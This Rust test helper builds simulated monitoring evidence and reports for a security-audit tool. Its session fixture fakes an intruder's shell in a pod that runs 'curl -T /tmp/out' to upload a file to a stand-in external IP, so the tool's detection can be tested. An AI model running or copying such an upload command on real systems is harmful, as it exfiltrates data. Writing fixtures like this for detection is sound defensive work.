//! A folder of evidence of a week, and how its report is asked for.

use std::collections::BTreeMap;
use std::fs;
use std::ops::Range;
use std::path::{Path, PathBuf};
use std::process::Command;

use avouch_evidence::{Folder, Recorder, Settings};
use avouch_finding::{
    Command as Ran, Connection, Fact, FileChange, Losses, Observation, RulesLoaded, SourceState, Time, Watching, Who,
};
use avouch_ledger::Source;
use serde_json::Value as Json;

use crate::inputs::{ACCEPTANCES, AUDIT, CONTROLS};

pub(crate) const RECORDING: &str = "recordings/web-intrusion.scap";
pub(crate) const FROM: &str = "2026-07-01";
pub(crate) const TO: &str = "2026-07-08";
pub(crate) const HOUR: u64 = 3_600_000_000_000;

pub(crate) fn root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

pub(crate) fn run(args: &[&str]) -> (String, String, i32) {
    let mut command = Command::new(env!("CARGO_BIN_EXE_avouch"));
    let out = command.args(args).current_dir(root()).env("TZ", "UTC").env("NO_COLOR", "1").env("USER", "ann").output();
    let out = out.unwrap();
    let text = |b: Vec<u8>| String::from_utf8(b).unwrap();
    (text(out.stdout), text(out.stderr), out.status.code().unwrap())
}

pub(crate) fn fine(args: &[&str]) -> (String, String) {
    let (out, err, code) = run(args);
    assert_eq!(code, 0, "{args:?}: {out}{err}");
    (out, err)
}

pub(crate) fn time(text: &str) -> Time {
    Time::parse(text).unwrap()
}

/// A folder of evidence over the period, and the control list it is reported by.
pub(crate) struct Estate {
    dir: PathBuf,
    /// Gone with the estate, when it is of one test alone.
    _temporary: Option<tempfile::TempDir>,
}

impl Estate {
    pub(crate) fn path(&self, name: &str) -> String {
        self.dir.join(name).display().to_string()
    }

    pub(crate) fn data(&self) -> String {
        self.path("data")
    }

    pub(crate) fn replay(&self, more: &[&str]) {
        let data = self.data();
        let args = ["replay", "--rules", "rules", "--matching", "all", "--quiet", "--data", &data];
        fine(&[&args, more].concat());
    }

    pub(crate) fn report(&self, name: &str, more: &[&str]) -> PathBuf {
        let (data, lists, out) = (self.data(), self.path("controls"), self.path(name));
        let args =
            ["report", "--data", &data, "--controls", &lists, "--from", FROM, "--to", TO, "--out", &out, "--by", "ann"];
        fine(&[&args, more].concat());
        PathBuf::from(out)
    }

    pub(crate) fn new() -> Self {
        let temporary = tempfile::tempdir().unwrap();
        Self { dir: temporary.path().to_owned(), _temporary: Some(temporary) }.of_the_week(AUDIT)
    }

    /// One that several tests read; made anew in the build's own folder for temporary files. `audit` is the cluster's audit log.
    pub(crate) fn shared(name: &str, audit: &str) -> Self {
        let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join(name);
        if dir.exists() {
            fs::remove_dir_all(&dir).unwrap();
        }
        fs::create_dir_all(&dir).unwrap();
        Self { dir, _temporary: None }.of_the_week(audit)
    }

    fn of_the_week(self, audit: &str) -> Self {
        let estate = self;
        fs::create_dir(estate.path("controls")).unwrap();
        fs::write(estate.path("controls/v1.yaml"), CONTROLS).unwrap();
        fs::write(estate.path("acceptances.yaml"), ACCEPTANCES).unwrap();
        fs::write(estate.path("audit.jsonl"), audit).unwrap();
        let web = ["--node", "web-1", "--cluster", "prod"];
        let at = |day: &'static str| ["--recorded-at", day];
        // Day one as it is; day three with an acceptance; day five, when that has ended, with a rule switched off.
        let holes = estate.path("acceptances.yaml");
        estate.replay(&[&[RECORDING][..], &web, &at("2026-07-01T10:00:00Z")].concat());
        estate.replay(
            &[&[RECORDING, "--again", "--acceptances", &holes][..], &web, &at("2026-07-03T10:00:00Z")].concat(),
        );
        let off = ["--disable", "Log file emptied"];
        estate.replay(
            &[&[RECORDING, "--again", "--acceptances", &holes][..], &off, &web, &at("2026-07-05T10:00:00Z")].concat(),
        );
        let audit = estate.path("audit.jsonl");
        estate.replay(&[&audit, "--acceptances", &holes, "--node", "prod-api", "--cluster", "prod"]);
        estate.watch();
        estate
    }

    /// A second node with an agent: watched all the time, but for ten minutes, and an hour with losses.
    pub(crate) fn watch(&self) {
        let rules = self.rules();
        let begin = time("2026-07-01T00:00:00Z").0;
        let mut facts = vec![loaded("web-2", begin, &rules)];
        for hour in 0..7 * 24 {
            let mut hour_of = watched("web-2", begin + hour * HOUR, &rules);
            if hour == 3 * 24 {
                hour_of.from.0 += HOUR / 6;
            }
            if hour == 4 * 24 {
                hour_of.lost = Losses { events: 17, ..Losses::default() };
            }
            facts.push(hour_of.into());
        }
        // A pod that lived for twenty seconds.
        let who =
            Who { container: "c0ffee123456".into(), pod: "job-7".into(), namespace: "shop".into(), ..Who::default() };
        for second in [0, 20] {
            let at = Time(begin + 50 * HOUR + second * 1_000_000_000);
            facts.push(
                Ran { time: at, node: "web-2".into(), who: who.clone(), cmdline: "job".into(), ..Ran::default() }
                    .into(),
            );
        }
        facts.extend(session());
        self.keep("web-2", &facts);
    }

    /// One more node with an agent, under these rule sets in these hours of the week.
    pub(crate) fn watch_node(&self, node: &str, sets: &[(Range<u64>, &RulesLoaded)]) {
        let begin = time("2026-07-01T00:00:00Z").0;
        let mut facts = Vec::new();
        for (hours, rules) in sets {
            facts.push(loaded(node, begin + hours.start * HOUR, rules));
            facts.extend(hours.clone().map(|hour| Fact::from(watched(node, begin + hour * HOUR, rules))));
        }
        self.keep(node, &facts);
    }

    fn keep(&self, node: &str, facts: &[Fact]) {
        let now = time("2026-07-08T00:00:00Z");
        let folder = Folder::new(self.data());
        let (mut recorder, _) = Recorder::open(&folder, Settings::default(), now, &mut |_| {}).unwrap();
        let source = Source { name: node.to_owned(), run: "agent-1".to_owned() };
        for fact in facts {
            assert!(recorder.record(fact, &source, now).unwrap() > 0);
        }
        recorder.close(now).unwrap();
    }

    fn rule_sets(&self) -> impl Iterator<Item = RulesLoaded> {
        let all = self.records().into_iter().filter(|(kind, _)| kind == "rules");
        all.map(|(_, body)| serde_json::from_value(body).unwrap())
    }

    /// The rule set of the first replay.
    pub(crate) fn rules(&self) -> RulesLoaded {
        self.rule_sets().next().unwrap()
    }

    /// That of the replay in which a rule was switched off.
    pub(crate) fn rules_without(&self, name: &str) -> RulesLoaded {
        self.rule_sets().find(|set| set.not_running.iter().any(|r| r.name == name)).unwrap()
    }

    /// Kind and body of every record, read from the ledger's lines with nothing of ours.
    pub(crate) fn records(&self) -> Vec<(String, Json)> {
        let text = fs::read_to_string(self.path("data/ledger/segments/00000001.jsonl")).unwrap();
        let read = |line: &str| {
            let mut record: Json = serde_json::from_str(line).unwrap();
            (record["kind"].as_str().unwrap().to_owned(), record["what"].take())
        };
        text.lines().map(read).collect()
    }

    /// Findings of the period, read the same way.
    pub(crate) fn findings(&self) -> Vec<Json> {
        let within =
            |f: &Json| (time("2026-07-01T00:00:00Z")..time("2026-07-08T00:00:00Z")).contains(&time(text(f, "time")));
        let all = self.records().into_iter().filter(|(kind, _)| kind == "finding").map(|(_, body)| body);
        all.filter(within).collect()
    }
}

fn loaded(node: &str, at: u64, rules: &RulesLoaded) -> Fact {
    RulesLoaded { time: Time(at), node: node.into(), run: "agent-1".into(), ..rules.clone() }.into()
}

/// An hour that was watched without loss.
fn watched(node: &str, from: u64, rules: &RulesLoaded) -> Observation {
    let state = SourceState { state: Watching::Delivers, events: 1000, ..SourceState::default() };
    Observation {
        from: Time(from),
        to: Time(from + HOUR),
        node: node.into(),
        cluster: "prod".into(),
        run: "agent-1".into(),
        rules: rules.digest.clone(),
        sources: BTreeMap::from([("syscall".to_owned(), state)]),
        events: 1000,
        clock_offset_ns: 1_795_000_000_000_000_000,
        ..Observation::default()
    }
}

/// What somebody did in a pod for which the audit log has a request for exec at 2026-07-06T09:10:00Z.
pub(crate) fn session() -> Vec<Fact> {
    let at = |seconds: u64| Time(time("2026-07-06T09:10:00Z").0 + seconds * 1_000_000_000);
    let who = |pid, ppid, exe: &str| Who {
        pid,
        ppid,
        exe: exe.into(),
        user: "root".into(),
        container: "decaf0000000".into(),
        pod: "web-5f7".into(),
        namespace: "shop".into(),
        ..Who::default()
    };
    let run = |seconds, who: Who, tty, cmdline: &str| -> Fact {
        Ran { time: at(seconds), node: "web-2".into(), who, cmdline: cmdline.into(), tty, ..Ran::default() }.into()
    };
    let curl = who(4001, 4000, "/usr/bin/curl");
    let connection = Connection {
        time: at(60),
        node: "web-2".into(),
        direction: "out".into(),
        protocol: "tcp".into(),
        address: "203.0.113.9".into(),
        port: 443,
        first: at(21),
        last: at(22),
        count: 2,
        results: BTreeMap::from([("ok".to_owned(), 2)]),
        who: curl.clone(),
        ..Connection::default()
    };
    let change = FileChange {
        time: at(23),
        node: "web-2".into(),
        action: "create".into(),
        path: "/tmp/out".into(),
        who: curl.clone(),
        ..FileChange::default()
    };
    vec![
        run(2, who(4000, 3999, "/bin/sh"), 34_816, "sh"),
        run(20, curl, 34_816, "curl -T /tmp/out https://203.0.113.9/"),
        // The pod's own program, which nobody asked for.
        run(21, who(17, 9, "/usr/bin/web"), 0, "web"),
        change.into(),
        connection.into(),
    ]
}

pub(crate) fn text<'j>(json: &'j Json, key: &str) -> &'j str {
    json[key].as_str().unwrap_or_default()
}

pub(crate) fn population(out: &Path, id: &str) -> Vec<Json> {
    let lines = fs::read_to_string(out.join(format!("bundle/populations/{id}.jsonl"))).unwrap();
    lines.lines().map(|l| serde_json::from_str(l).unwrap()).collect()
}

/// The words of the report, without its tags.
pub(crate) fn words(out: &Path) -> String {
    words_of(&fs::read_to_string(out.join("report.html")).unwrap())
}

/// The words of HTML, without its tags.
pub(crate) fn words_of(html: &str) -> String {
    let mut words = String::new();
    let mut inside = false;
    for c in html.chars() {
        match c {
            '<' => inside = true,
            '>' => {
                inside = false;
                words.push(' ');
            }
            c if !inside => words.push(c),
            _ => {}
        }
    }
    words.split_whitespace().collect::<Vec<_>>().join(" ")
}

pub(crate) fn files(dir: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    let mut out = BTreeMap::new();
    let mut folders = vec![dir.to_owned()];
    while let Some(folder) = folders.pop() {
        for entry in fs::read_dir(folder).unwrap().map(Result::unwrap) {
            if entry.path().is_dir() {
                folders.push(entry.path());
            } else {
                out.insert(entry.path().strip_prefix(dir).unwrap().to_owned(), fs::read(entry.path()).unwrap());
            }
        }
    }
    out
}

pub(crate) fn copy(from: &Path, to: &Path) {
    for (path, bytes) in files(from) {
        fs::create_dir_all(to.join(&path).parent().unwrap()).unwrap();
        fs::write(to.join(&path), bytes).unwrap();
    }
}
